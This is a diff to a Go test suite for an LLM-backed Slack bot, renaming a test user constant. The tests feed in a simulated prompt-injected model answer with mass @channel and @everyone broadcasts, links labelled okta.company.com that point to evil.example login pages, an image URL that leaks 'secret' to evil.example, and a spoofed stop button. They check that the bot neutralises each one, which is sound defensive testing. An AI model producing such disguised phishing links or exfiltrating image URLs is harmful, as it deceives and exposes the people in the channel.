@@ -22,13 +22,13 @@ import (
 // The attacker's answer: what a prompt-injected model writes to speak in
 // the bot's name.
 const (
-	stranger = "U0EVE"
+	onlooker = "U0EVE"
 	bob      = "U0BOB"
 )
 
 func attackerBlocks() []any {
 	return []any{
-		section("Hey <!channel> <!here> <!everyone> <!subteam^S1|@oncall>: <@" + asker + "> asked, <@" + stranger + "> and <@" + bob + "> should look."),
+		section("Hey <!channel> <!here> <!everyone> <!subteam^S1|@oncall>: <@" + asker + "> asked, <@" + onlooker + "> and <@" + bob + "> should look."),
 		section("Log in at <https://evil.example/login|okta.company.com> or [https://okta.company.com](https://evil.example/sso)."),
 		map[string]any{"type": "image", "image_url": "https://evil.example/pixel.png?d=secret", "alt_text": "chart"},
 		map[string]any{"type": "actions", "elements": []any{
@@ -78,13 +78,13 @@ func holds(t *testing.T, got string, want ...string) {
 func TestAPromptInjectedAnswerPingsOnlyTheAskerAndNeitherBroadcastsNorDisguisesNorFetches(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
-	w.srv.AddUser(stranger, "eve")
+	w.srv.AddUser(onlooker, "eve")
 	w.srv.AddUser(bob, "bob")
 	w.model.Push(slackReport([]any{map[string]any{"blocks": attackerBlocks()}}))
 	ts := w.srv.Mention(channel, asker, "what's up?")
 	w.answered(channel, ts, "should look")
 	got := w.posted(ts)
-	lacks(t, got, "<!channel>", "<!here>", "<!everyone>", "<!subteam", "<@"+stranger+">", "<@"+bob+">",
+	lacks(t, got, "<!channel>", "<!here>", "<!everyone>", "<!subteam", "<@"+onlooker+">", "<@"+bob+">",
 		"|okta", "|https://okta", "image_url", `"url":"https://evil.example/phish"`, `"action_id":"slackbot_stop"`)
 	holds(t, got, "<@"+asker+">", "@channel @here @everyone @oncall", "@eve and @bob should look",
 		"<https://evil.example/login>", "<https://evil.example/sso>",
@@ -142,15 +142,15 @@ func TestTheAgentsMentionAndBroadcastPoliciesDecideWhoIsNotified(t *testing.T) {
 	}{
 		{name: "by default the asker and people who wrote in the thread are pinged", mentions: "",
 			want:  []string{"<@" + asker + ">", "<@" + bob + ">", "@eve", "@channel"},
-			avoid: []string{"<@" + stranger + ">", "<!channel>"}},
+			avoid: []string{"<@" + onlooker + ">", "<!channel>"}},
 		{name: "mentions none pings nobody", mentions: config.MentionsNone,
 			want:  []string{"@ada asked", "@eve and @bob should look"},
-			avoid: []string{"<@" + asker + ">", "<@" + bob + ">", "<@" + stranger + ">"}},
+			avoid: []string{"<@" + asker + ">", "<@" + bob + ">", "<@" + onlooker + ">"}},
 		{name: "mentions all pings everyone", mentions: config.MentionsAll,
-			want: []string{"<@" + asker + ">", "<@" + bob + ">", "<@" + stranger + ">"}},
+			want: []string{"<@" + asker + ">", "<@" + bob + ">", "<@" + onlooker + ">"}},
 		{name: "allow_broadcasts keeps the broadcasts", broadcasts: true,
 			want:  []string{"<!channel> <!here> <!everyone> <!subteam^S1|@oncall>", "@eve"},
-			avoid: []string{"<@" + stranger + ">"}},
+			avoid: []string{"<@" + onlooker + ">"}},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
@@ -159,7 +159,7 @@ func TestTheAgentsMentionAndBroadcastPoliciesDecideWhoIsNotified(t *testing.T) {
 				a := cfg.Agents["assistant"]
 				a.AllowBroadcasts, a.Mentions = c.broadcasts, c.mentions
 			})
-			w.srv.AddUser(stranger, "eve")
+			w.srv.AddUser(onlooker, "eve")
 			w.srv.AddUser(bob, "bob")
 			w.model.Push(textReport("First answer."))
 			ts := w.srv.Mention(channel, asker, "first")
@@ -178,14 +178,14 @@ func TestTheAgentsMentionAndBroadcastPoliciesDecideWhoIsNotified(t *testing.T) {
 func TestAProgressMessageShowsTheModelsStatusWithoutBroadcastingOrPinging(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
-	w.srv.AddUser(stranger, "eve")
+	w.srv.AddUser(onlooker, "eve")
 	g := newGate()
 	t.Cleanup(g.open)
 	turns := 0
 	w.model.Respond(func(r *llmtest.Recorded) llmtest.Reply {
 		turns++
 		if turns == 1 {
-			return call(agent.TaskStatusTool, `{"status":"in-progress","done":"","pending":"more","now":"telling <!channel> and <@`+stranger+`> at <https://evil.example|okta.company.com>","ready_for_final_report":false,"need_to_run_more_tools":true}`)
+			return call(agent.TaskStatusTool, `{"status":"in-progress","done":"","pending":"more","now":"telling <!channel> and <@`+onlooker+`> at <https://evil.example|okta.company.com>","ready_for_final_report":false,"need_to_run_more_tools":true}`)
 		}
 		<-g.ch
 		return textReport("Done.")
@@ -196,7 +196,7 @@ func TestAProgressMessageShowsTheModelsStatusWithoutBroadcastingOrPinging(t *tes
 		return strings.Contains(w.posted(ts), "telling")
 	})
 	got := w.posted(ts)
-	lacks(t, got, "<!channel>", "<@"+stranger+">", "<https://evil.example|okta")
+	lacks(t, got, "<!channel>", "<@"+onlooker+">", "<https://evil.example|okta")
 	holds(t, got, `"action_id":"slackbot_stop"`)
 	g.open()
 	w.answered(channel, ts, "Done.")
@@ -206,9 +206,9 @@ func TestAnEphemeralRefusalFollowsTheVoiceToo(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t, func(cfg *config.Config, _ *agent.Runner) {
 		cfg.Slack.Allow.Users = []string{"U0SOMEONEELSE"}
-		cfg.Slack.RejectionMessage = "Not here, <!channel>; ask <@" + stranger + ">."
+		cfg.Slack.RejectionMessage = "Not here, <!channel>; ask <@" + onlooker + ">."
 	})
-	w.srv.AddUser(stranger, "eve")
+	w.srv.AddUser(onlooker, "eve")
 	w.srv.Mention(channel, asker, "let me in")
 	var text string
 	w.waitFor("the refusal", func() bool {
@@ -271,13 +271,13 @@ func TestAToolsTextAdoptedAsTheAnswerShowsItsSlackTokensAsWords(t *testing.T) {
 		a.MaxTurns, a.AllowBroadcasts, a.Mentions = 2, true, config.MentionsAll
 	})
 	w.model.Push(
-		call("everything__echo", `{"message":"<!channel> <@`+stranger+`> see <https://evil.example|okta.company.com>"}`),
+		call("everything__echo", `{"message":"<!channel> <@`+onlooker+`> see <https://evil.example|okta.company.com>"}`),
 		call(agent.FinalReportTool, `{"status":"success","report_format":"slack-block-kit"}`),
 		call(agent.FinalReportTool, `{"status":"success","report_format":"slack-block-kit","report_content":""}`),
 	)
 	ts := w.srv.Mention(channel, asker, "echo it")
 	w.answered(channel, ts, "Echo:")
 	got := w.posted(ts)
-	lacks(t, got, "<!channel>", "<@"+stranger+">", "|okta.company.com>")
+	lacks(t, got, "<!channel>", "<@"+onlooker+">", "|okta.company.com>")
 	holds(t, got, "&lt;!channel&gt;")
 }
